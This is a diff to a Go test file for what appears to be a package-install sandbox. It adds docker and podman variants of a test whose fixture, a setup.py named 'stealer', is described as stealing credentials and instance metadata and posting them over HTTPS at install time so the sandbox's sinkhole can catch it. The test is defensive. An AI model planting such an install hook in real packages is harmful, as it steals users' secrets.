@@ -1,6 +1,7 @@
 package pkgtest_test
 
 import (
+	"cmp"
 	"encoding/base64"
 	"os"
 	"path/filepath"
@@ -8,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/moat-sandbox/moat"
+	"github.com/moat-sandbox/moat/moattest"
 	"github.com/moat-sandbox/moat/pkgtest"
 	"github.com/moat-sandbox/moat/report"
 )
@@ -140,6 +142,29 @@ setup(name="stealer", version="0.1", packages=["stealer"])
 // the report of the install phase shows the request in clear: the
 // metadata credential access and the exfiltration, seen by the sink.
 func TestInstallSinkholeHTTPS(t *testing.T) {
+	installSinkhole(t, pkgtest.Config{})
+}
+
+// TestInstallSinkholeContainers: the same on docker and podman, whose
+// sinkhole moat serves in the container's network namespace (as root).
+func TestInstallSinkholeContainers(t *testing.T) {
+	image := cmp.Or(os.Getenv("MOAT_TEST_IMAGE"), "moat/python:bookworm")
+	for _, name := range []string{"docker", "podman"} {
+		t.Run(name, func(t *testing.T) {
+			b := moattest.RequireBackend(t, name)
+			if os.Geteuid() != 0 {
+				t.Skip("a container's sinkhole needs moat as root")
+			}
+			installSinkhole(t, pkgtest.Config{Backend: b, Isolation: name, Image: image})
+		})
+	}
+}
+
+// installSinkhole: a setup.py that steals the credentials and the
+// instance metadata's, and posts them over HTTPS, under the install
+// phase's default network (cfg's backend; native if none).
+func installSinkhole(t *testing.T, cfg pkgtest.Config) {
+	t.Helper()
 	dir := writeProject(t, map[string]string{
 		"setup.py": `import os, urllib.request
 from setuptools import setup
@@ -160,7 +185,8 @@ setup(name="stealer", version="0.1", packages=["stealer"])
 	if err != nil {
 		t.Fatal(err)
 	}
-	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install"}})
+	cfg.Target, cfg.Phases = tg, []string{"install"}
+	rep, err := run(t, cfg)
 	if err != nil || rep.Status != pkgtest.StatusPassed {
 		dump(t, rep)
 		t.Fatalf("status %s, err %v", rep.Status, err)
